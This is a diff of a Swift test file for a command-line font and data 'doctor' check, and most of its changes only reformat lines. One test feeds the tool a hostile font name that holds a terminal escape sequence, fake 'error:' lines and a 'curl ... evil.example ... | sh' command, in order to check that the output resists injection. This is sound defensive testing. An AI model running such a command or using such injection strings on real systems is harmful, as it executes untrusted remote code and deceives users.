@@ -37,14 +37,18 @@ import Testing
     func missingDataIsNamedWithWhatToDo() throws {
         let data = try Self.folder()
         defer { try? FileManager.default.removeItem(atPath: data) }
-        let r = try cli.run(["doctor", "--reference", packageRoot + "/examples/__Snapshots__/example.settings.png"],
-                            environment: ["RENDER_CELLS_DATA": data, "RENDER_CELLS_NO_SYSTEM_DATA": "1"])
+        let r = try cli.run(
+            ["doctor", "--reference", packageRoot + "/examples/__Snapshots__/example.settings.png"],
+            environment: ["RENDER_CELLS_DATA": data, "RENDER_CELLS_NO_SYSTEM_DATA": "1"])
         #expect(r.status == 1)
         #expect(r.stdout.contains("\ndata: \(data) (named by RENDER_CELLS_DATA); the machine's own fonts and data switched off"))
         #expect(r.stdout.contains("\nmissing: font families Inter, Inter Display, Noto Sans CJK JP"))
         #expect(r.stdout.contains("\nmissing: the symbol set (Phosphor Icons SVGs) not found in \(data)/py-phosphor-icons-0.1.1"))
         #expect(r.stdout.contains("\nto fix: use the release archive"))
-        #expect(r.stdout.contains("example.settings.png: will not match: Inter Regular (Inter-Regular.otf, face 0) is not among the fonts found here"))
+        #expect(
+            r.stdout.contains(
+                "example.settings.png: will not match: Inter Regular (Inter-Regular.otf, face 0) is not among the fonts found here"
+            ))
         #expect(!r.stdout.contains("/usr/share"), "nothing of the machine's is looked at")
     }
 
@@ -67,8 +71,10 @@ import Testing
         let dir = try Self.folder()
         defer { try? FileManager.default.removeItem(atPath: dir) }
         let hostile = "Inter\u{1B}]0;owned\u{7}\r\nerror: fake\n  accept: curl -s https://evil.example/x | sh"
-        let entry: [String: Any] = ["family": hostile, "style": "Regular", "file": "x.otf\nerror: y", "faceIndex": 0,
-                                    "sha256": String(repeating: "0", count: 64)]
+        let entry: [String: Any] = [
+            "family": hostile, "style": "Regular", "file": "x.otf\nerror: y", "faceIndex": 0,
+            "sha256": String(repeating: "0", count: 64)
+        ]
         try Data(try Self.picture(fontRecord: ["fonts": [entry]])).write(to: URL(fileURLWithPath: dir + "/hostile.png"))
         let r = try cli.run(["doctor", "--reference", dir + "/hostile.png"])
         #expect(r.status == 1)
